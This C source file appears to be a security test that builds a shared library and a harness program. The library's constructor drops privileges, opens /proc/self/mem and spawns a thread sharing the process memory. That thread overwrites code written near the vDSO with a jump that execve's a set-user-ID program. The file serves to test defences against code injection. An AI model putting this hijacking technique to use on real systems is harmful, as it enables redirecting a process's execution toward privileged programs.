// A shared object's constructor starts a process that shares the memory of its program. While the program is lifted at
// its start, that process replaces the code that makes injected calls: the new code executes the set-user-ID program of
// the first argument.
//
// build: gcc -g -O1 -Wall -fPIC -shared -DLIBRARY -o $BUILD/libsteers.so $SRC
// build: gcc -g -O1 -Wall -fPIE -pie -o $OUT $SRC -L$BUILD -Wl,--no-as-needed -lsteers -Wl,-rpath,$BUILD
#define _GNU_SOURCE
#ifdef LIBRARY
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

enum { OF_NOBODY = 65534, PADDING = 1024 };
static char *victim[2], *none[1];
static char padding[PADDING];
static const volatile char *vdso_end;
static int memory;
static pid_t parent;

// Inside of other code, the stack pointer may have any value.
__attribute__((used)) static char own_stack[65536] __attribute__((aligned(16)));

__attribute__((used)) static void steal(void) {
    execve(victim[0], victim, none);
    _exit(3);
}

__asm__(".text\n steered: lea own_stack(%rip), %rsp\n add $65536, %rsp\n call steal\n");
extern char steered[] __attribute__((visibility("hidden")));

/* The thread's position in the code is unknown: all instructions before the jump do nothing. */
static void replace_code(const char *from) {
    char code[PADDING];
    size_t length = vdso_end - from;
    uintptr_t target = (uintptr_t)steered;
    memset(code, 0x90, length);
    // mov $target, %rax; jmp *%rax
    memcpy(code + length - 12, "\x48\xb8", 2);
    memcpy(code + length - 10, &target, 8);
    memcpy(code + length - 2, "\xff\xe0", 2);
    (void)!pwrite(memory, code, length, (uintptr_t)from);
}

static int watch_code(void *unused) {
    (void)unused;
    const char *start = (const char *)vdso_end - PADDING;
    while (getppid() == parent) {
        for (int i = 0; i < 10000; i++) {
            if (!memcmp(start, padding, PADDING)) continue;
            const char *from = start;
            while (from < vdso_end && *from == 0) from++;
            memcpy(padding, start, PADDING);
            // Otherwise the code was only erased.
            if (vdso_end - from >= 16) replace_code(from), memcpy(padding, start, PADDING);
        }
    }
    _exit(0);
}

__attribute__((constructor)) static void share_memory(int count, char **words) {
    unsigned long start = 0, end = 0;
    char line[512];
    if (count < 2) return;
    victim[0] = words[1];
    parent = getpid();
    FILE *maps = fopen("/proc/self/maps", "r");
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, "[vdso]") && sscanf(line, "%lx-%lx", &start, &end) == 2) break;
    if (maps) fclose(maps);
    memory = open("/proc/self/mem", O_RDWR);
    vdso_end = (const char *)end;
    memcpy(padding, (const char *)vdso_end - PADDING, PADDING);
    if (memory < 0 || setresgid(OF_NOBODY, OF_NOBODY, OF_NOBODY) || setresuid(OF_NOBODY, OF_NOBODY, OF_NOBODY)) _exit(4);
    prctl(PR_SET_DUMPABLE, 1);
    char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (clone(watch_code, stack + (1 << 16), CLONE_VM | SIGCHLD, NULL) < 0) _exit(5);
}
#else
#define CODE_PAGES 1100
#include "ranges.h"

int main(void) {
    // No other code ran.
    printf("%s\n", run_code() ? "ended as it should" : "nothing there");
    return 0;
}
#endif
